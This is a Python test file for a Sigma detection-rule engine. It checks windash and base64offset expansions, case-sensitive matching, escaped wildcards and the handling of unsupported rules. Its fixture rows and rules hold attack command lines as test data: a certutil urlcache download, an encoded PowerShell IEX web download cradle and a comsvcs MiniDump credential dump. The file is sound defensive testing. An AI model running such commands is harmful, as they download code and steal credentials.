"""SigmaHQ's own constructs: value expansions (``windash``, ``base64offset``),
``|cased``, escaped wildcards, many rules in one run, and rules the compiler cannot
handle, which are reported with file and line and skipped while the others run."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import yaml
from rich.console import Console

from farmhunt.cli.detect_view import run_rules_validate
from farmhunt.detect.engine import make_context, run_rules
from farmhunt.detect.loader import load_rules
from farmhunt.detect.testing import connection_with
from tests.detect.test_sigma_engine import _hits

ROWS: list[dict[str, Any]] = [
    {"device.hostname": "SLASH", "process.cmd_line": "certutil /urlcache /f http://x/a.exe"},
    {"device.hostname": "DASH", "process.cmd_line": "certutil -urlcache -f http://x/a.exe"},
    # an en dash, as in SigmaHQ's windash expansion
    {"device.hostname": "ENDASH", "process.cmd_line": "certutil \u2013urlcache \u2013f x"},
    {"device.hostname": "OTHER", "process.cmd_line": "notepad.exe urlcache"},
    {
        "device.hostname": "B64",
        "process.cmd_line": "powershell -e "
        + base64.b64encode(b"xxIEX (New-Object Net.WebClient)").decode(),
    },
    {"device.hostname": "QMARK", "process.file.desc": "?", "process.cmd_line": "a"},
    {"device.hostname": "UPPER", "process.cmd_line": "Run COMSVCS MiniDump"},
    {"device.hostname": "LOWER", "process.cmd_line": "run comsvcs minidump"},
]


def test_windash_expansion_matches_every_dash_form(tmp_path: Path) -> None:
    detection = "sel:\n  CommandLine|windash|contains: ' -urlcache '\ncondition: sel"
    assert _hits(tmp_path, detection, ROWS) == {"SLASH", "DASH", "ENDASH"}


def test_windash_expansion_inside_all(tmp_path: Path) -> None:
    detection = "sel:\n  CommandLine|windash|contains|all: [' -urlcache ', ' -f ']\ncondition: sel"
    assert _hits(tmp_path, detection, ROWS) == {"SLASH", "DASH", "ENDASH"}


def test_base64offset_expansion(tmp_path: Path) -> None:
    detection = "sel:\n  CommandLine|base64offset|contains: 'IEX (New-Object'\ncondition: sel"
    assert _hits(tmp_path, detection, ROWS) == {"B64"}


def test_cased_compares_as_written(tmp_path: Path) -> None:
    detection = "sel:\n  CommandLine|cased|contains: 'COMSVCS'\ncondition: sel"
    assert _hits(tmp_path, detection, ROWS) == {"UPPER"}


def test_escaped_wildcard_is_the_literal_character(tmp_path: Path) -> None:
    # as SigmaHQ's proc_creation_win_susp_file_characteristics compares Description
    one = "sel:\n  Description: '\\?'\n  CommandLine: a\ncondition: sel"
    assert _hits(tmp_path, one, ROWS) == {"QMARK"}
    listed = "sel:\n  Description: ['\\?', 'nothing']\n  CommandLine: a\ncondition: sel"
    assert _hits(tmp_path, listed, ROWS) == {"QMARK"}


GOOD = {
    "title": "a rule that compiles",
    "id": "6a6b6c6d-0000-4000-8000-000000000001",
    "logsource": {"category": "process_creation", "product": "windows"},
    "detection": {"sel": {"CommandLine|contains": "urlcache"}, "condition": "sel"},
    "level": "high",
}
BAD = """\
title: a rule comparing a string with an hour
id: 6a6b6c6d-0000-4000-8000-000000000002
logsource: {category: process_creation, product: windows}
detection:
  sel:
    CommandLine|contains: urlcache
    Image|hour: 3
  condition: sel
level: high
"""


def test_an_unsupported_rule_is_named_with_its_line_and_the_others_run(tmp_path: Path) -> None:
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "good.yml").write_text(yaml.safe_dump(GOOD))
    (folder / "bad.yml").write_text(BAD)
    ruleset = load_rules([folder])
    assert [r.title for r in ruleset.rules] == ["a rule that compiles"]
    (problem,) = ruleset.unsupported
    assert problem.startswith(f"{folder / 'bad.yml'}:7: a rule comparing")
    assert "Image" in problem
    console = Console(record=True, width=400)
    assert run_rules_validate([folder], console, console) == 0
    assert f"{folder / 'bad.yml'}:7" in console.export_text()
    ctx = make_context(connection_with({"process_activity": ROWS}))
    assert {f.subject for f in run_rules(ctx, ruleset)} == {"SLASH", "DASH", "ENDASH", "OTHER"}


def test_hundreds_of_rules_firing_in_one_run(tmp_path: Path) -> None:
    """Each firing rule used to add a level to one UNION chain; a few hundred exceeded
    Python's recursion limit in the SQL compiler."""
    docs = [
        {**GOOD, "id": f"6a6b6c6d-0000-4000-8000-{n:012d}", "title": f"rule {n}"}
        for n in range(300)
    ]
    path = tmp_path / "many.yml"
    path.write_text(yaml.safe_dump_all(docs))
    ruleset = load_rules([path])
    ctx = make_context(connection_with({"process_activity": ROWS}))
    findings = run_rules(ctx, ruleset)
    assert len({f.rule.id for f in findings}) == 300
